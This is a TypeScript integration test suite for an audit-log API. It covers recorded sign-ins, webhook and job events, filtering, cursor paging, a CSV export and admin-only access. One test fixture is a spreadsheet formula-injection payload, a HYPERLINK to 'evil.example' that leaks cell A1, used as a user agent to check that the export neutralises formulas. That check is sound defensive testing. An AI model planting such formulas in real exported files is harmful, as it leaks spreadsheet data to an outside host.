import * as Auth from "@dotmac/core/auth";
import * as Job from "@dotmac/core/jobs";
import { patchConfig } from "@dotmac/core/platform/config";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { cookiesOf, ORIGIN, passwordSignIn, testApp } from "../support/api";
import { setupTestDatabase, type TestDatabase } from "../support/db";
import { signedHeaders, subscriberPayload } from "../support/webhook";

type Event = {
  id: string;
  at: string;
  actor: { type: string; id: string | null; label: string | null };
  action: string;
  entityType: string;
  entityId: string | null;
  changes: Record<string, { from?: unknown; to?: unknown }> | null;
  requestId: string | null;
  ip: string | null;
  userAgent: string | null;
};

const ADMIN = { email: "auditor@example.com", password: "correct horse battery staple" };
const EVIL_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

let t: TestDatabase;
let api: ReturnType<typeof testApp>;
let admin: string;
let agent: string;
let adminId: string;
let loginRequestId: string;
let webhookId: string;

const get = (path: string, token = admin) => api.request(path, { headers: { authorization: `Bearer ${token}` } });
const events = async (query: Record<string, string> = {}, token = admin) => {
  const res = await get(`/api/v1/audit?${new URLSearchParams(query)}`, token);
  expect(res.status).toBe(200);
  return (await res.json()) as { items: Event[]; nextCursor: string | null };
};

async function drainQueue() {
  const Inbound = await import("@dotmac/core/inbound");
  for (const m of await t.queue.receive(10)) {
    await Inbound.consume(m);
    await t.queue.ack(m.id);
  }
}

beforeAll(async () => {
  t = await setupTestDatabase();
  api = testApp();
  adminId = (await Auth.createUser({ ...ADMIN, displayName: "Auditor", roles: ["admin"] })).id;
  await Auth.createUser({ email: "agent@example.com", password: ADMIN.password, displayName: "Agent", roles: [] });
  agent = (await passwordSignIn({ email: "agent@example.com", password: ADMIN.password })).accessToken;
  await Auth.createUser({ email: "clerk@example.com", password: ADMIN.password, displayName: "Clerk", roles: [] });

  // A sign-in through the API, from a browser whose user agent is a spreadsheet formula.
  const login = await api.request("/api/v1/auth/login", {
    method: "POST",
    headers: { "content-type": "application/json", origin: ORIGIN, "user-agent": EVIL_AGENT },
    body: JSON.stringify(ADMIN),
  });
  expect(login.status).toBe(200);
  loginRequestId = login.headers.get("x-request-id") ?? "";
  admin = cookiesOf(login).byName["__Host-dotmac_staff"] ?? "";

  // A billing webhook, applied by the consumer as the webhook actor.
  const body = subscriberPayload();
  const headers = signedHeaders(body);
  webhookId = headers["webhook-id"];
  expect((await api.request("/webhooks/billing/subscribers", { method: "POST", body, headers })).status).toBe(202);
  await drainQueue();

  // A scheduled job, as the scheduler runs it.
  await Job.run("outbox.sweep");
});
afterAll(() => t.close());

describe("GET /api/v1/audit: what happened, who did it, from where", () => {
  it("a sign-in is recorded as the user, with the request id, IP and user agent of the request", async () => {
    const { items } = await events({ action: "auth.login.succeeded", actor: ADMIN.email });
    expect(items).toHaveLength(1);
    expect(items[0]).toMatchObject({
      action: "auth.login.succeeded",
      actor: { type: "user", id: adminId, label: ADMIN.email },
      entityType: "user",
      entityId: adminId,
      requestId: loginRequestId,
      userAgent: EVIL_AGENT,
    });
    expect(loginRequestId).not.toBe("");
    // app.request has no socket, so there is no platform IP (and X-Forwarded-For is never trusted).
    expect(items[0]?.ip ?? null).toBeNull();
  });

  it("a webhook sync is recorded as the provider, with the created fields, under the webhook id", async () => {
    const { items } = await events({ action: "subscriber.created" });
    expect(items).toHaveLength(1);
    expect(items[0]).toMatchObject({
      actor: { type: "webhook", id: "billing", label: null },
      entityType: "subscriber",
      requestId: webhookId,
      changes: {
        subscriberNumber: { to: "SUB-000042" },
        status: { to: "active" },
        planName: { to: "Fibre 100" },
        serviceAddress: { to: { line1: "12 Marina Road", city: "Lagos", country: "NG" } },
      },
    });
  });

  it("an update records only the changed fields, and a stale or repeated delivery records nothing", async () => {
    const newer = subscriberPayload({}, { status: "suspended", updated_at: "2026-11-02T10:00:00Z" });
    await api.request("/webhooks/billing/subscribers", { method: "POST", body: newer, headers: signedHeaders(newer) });
    const older = subscriberPayload({}, { status: "terminated", updated_at: "2026-10-01T10:00:00Z" });
    await api.request("/webhooks/billing/subscribers", { method: "POST", body: older, headers: signedHeaders(older) });
    await drainQueue();
    const { items } = await events({ action: "subscriber.updated" });
    expect(items).toHaveLength(1);
    expect(items[0]?.changes).toEqual({
      status: { from: "active", to: "suspended" },
      sourceUpdatedAt: { from: "2026-11-01T10:00:00.000Z", to: "2026-11-02T10:00:00.000Z" },
    });
  });

  it("a job run is recorded as the system job with its outcome", async () => {
    const { items } = await events({ action: "job.run", entityId: "outbox.sweep" });
    expect(items[0]).toMatchObject({
      actor: { type: "system", id: "outbox.sweep" },
      entityType: "job",
      changes: { status: { from: "running", to: "succeeded" } },
    });
  });

  it("failed and throttled sign-ins are recorded although the sign-in throws", async () => {
    patchConfig({ RATE_LIMIT_LOGIN_EMAIL: 5 });
    try {
      for (let i = 0; i < 5; i++) {
        await expect(Auth.login({ email: "clerk@example.com", password: "wrong" })).rejects.toThrow();
      }
      await expect(Auth.login({ email: "nobody@example.com", password: "wrong" })).rejects.toThrow();
      const failed = (await events({ action: "auth.login.failed" })).items;
      expect(failed.filter((e) => e.actor.label === "clerk@example.com")).toHaveLength(5);
      expect(failed[0]).toMatchObject({ entityId: null, actor: { label: "nobody@example.com" } });
      expect(failed[0]?.changes).toEqual({ reason: { to: "unknown_email" }, portal: { to: "staff" } });
      expect(failed[1]?.changes).toEqual({ reason: { to: "wrong_password" }, portal: { to: "staff" } });
      // The sixth attempt waits, right password or not, and says which budget ran out.
      await expect(Auth.login({ email: "clerk@example.com", password: ADMIN.password })).rejects.toMatchObject({
        code: "rate_limited",
      });
      const throttled = (await events({ action: "auth.login.throttled" })).items;
      expect(throttled).toHaveLength(1);
      expect(throttled[0]).toMatchObject({
        entityId: (await Auth.fromEmail("clerk@example.com"))?.id,
        actor: { label: "clerk@example.com" },
        changes: { portal: { to: "staff" }, budget: { to: "source" } },
      });
    } finally {
      patchConfig({ RATE_LIMIT_LOGIN_EMAIL: 100000 });
    }
  });

  it("filters by actor, entity and time window", async () => {
    const all = (await events({ limit: "200" })).items;
    const byActor = (await events({ actor: "billing" })).items;
    expect(byActor.length).toBeGreaterThan(0);
    expect(byActor.every((e) => e.actor.id === "billing")).toBe(true);
    const users = (await events({ entityType: "user", entityId: adminId })).items;
    expect(users.map((e) => e.action).sort()).toEqual(["auth.login.succeeded", "user.created"]);
    const future = new Date(Date.now() + 3600_000).toISOString();
    expect((await events({ from: future })).items).toEqual([]);
    expect((await events({ to: future, limit: "200" })).items).toHaveLength(all.length);
    expect((await events({ from: all.at(-1)?.at ?? "", limit: "200" })).items).toHaveLength(all.length);
  });

  it("pages newest first with a cursor, every event exactly once", async () => {
    const all = (await events({ limit: "200" })).items;
    expect(all.length).toBeGreaterThan(8);
    const seen: Event[] = [];
    let cursor: string | null = null;
    do {
      const page: { items: Event[]; nextCursor: string | null } = await events({
        limit: "3",
        ...(cursor ? { cursor } : {}),
      });
      expect(page.items.length).toBeLessThanOrEqual(3);
      seen.push(...page.items);
      cursor = page.nextCursor;
    } while (cursor);
    expect(seen.map((e) => e.id)).toEqual(all.map((e) => e.id));
    const times = seen.map((e) => e.at);
    expect([...times].sort().reverse()).toEqual(times);
  });

  it("says what to fix for a bad cursor, action or limit", async () => {
    for (const query of ["cursor=nonsense", "action=made.up", "limit=0", "limit=1000", "from=yesterday"]) {
      const res = await get(`/api/v1/audit?${query}`);
      expect(res.status, query).toBe(400);
      expect(res.headers.get("content-type")).toBe("application/problem+json");
    }
  });
});

describe("GET /api/v1/audit/export.csv", () => {
  it("downloads the filtered log as CSV with the formula cell neutralised", async () => {
    const res = await get(`/api/v1/audit/export.csv?action=auth.login.succeeded&actor=${ADMIN.email}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = await res.text();
    const lines = text.split("\r\n");
    expect(lines[0]).toBe(
      "at,actor_type,actor_id,actor_label,action,entity_type,entity_id,changes,request_id,ip,user_agent",
    );
    expect(lines).toHaveLength(3); // header, one row, and the empty string after the final CRLF
    expect(lines[1]).toContain(
      `,user,${adminId},${ADMIN.email},auth.login.succeeded,user,${adminId},,${loginRequestId},`,
    );
    // The user agent was a formula: it is written as text, quoted because it holds quotes and commas.
    expect(lines[1]?.endsWith(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`)).toBe(true);
  });

  it("writes changes as JSON text and every row of the log without a limit", async () => {
    const all = (await events({ limit: "200" })).items;
    const text = await (await get("/api/v1/audit/export.csv")).text();
    expect(text.split("\r\n").length).toBeGreaterThanOrEqual(all.length + 2);
    const updated = text.split("\r\n").find((line) => line.includes(",subscriber.updated,"));
    expect(updated).toMatch(
      /,"\{""status"":\{(""from"":""active"",""to"":""suspended""|""to"":""suspended"",""from"":""active"")\}/,
    );
  });
});

describe("audit API contract", () => {
  it("is in the OpenAPI document, with the filters as query parameters", async () => {
    const doc = await (await api.request("/api/openapi.json")).json();
    const list = doc.paths["/api/v1/audit"]?.get;
    expect(list.parameters.map((p: { name: string }) => p.name).sort()).toEqual(
      ["action", "actor", "cursor", "entityId", "entityType", "from", "limit", "to"].sort(),
    );
    expect(Object.keys(doc.paths["/api/v1/audit/export.csv"]?.get.responses[200].content)).toEqual(["text/csv"]);
  });
});

describe("audit log security", () => {
  it("needs a session", async () => {
    for (const path of ["/api/v1/audit", "/api/v1/audit/export.csv"]) {
      const res = await api.request(path);
      expect(res.status, path).toBe(401);
    }
  });

  it("refuses a signed-in user who is not an administrator, before any CSV byte", async () => {
    for (const path of ["/api/v1/audit", "/api/v1/audit/export.csv"]) {
      const res = await get(path, agent);
      expect(res.status, path).toBe(403);
      expect(res.headers.get("content-type")).toBe("application/problem+json");
      expect((await res.json()).detail).toMatch(/audit:read permission/);
    }
  });
});
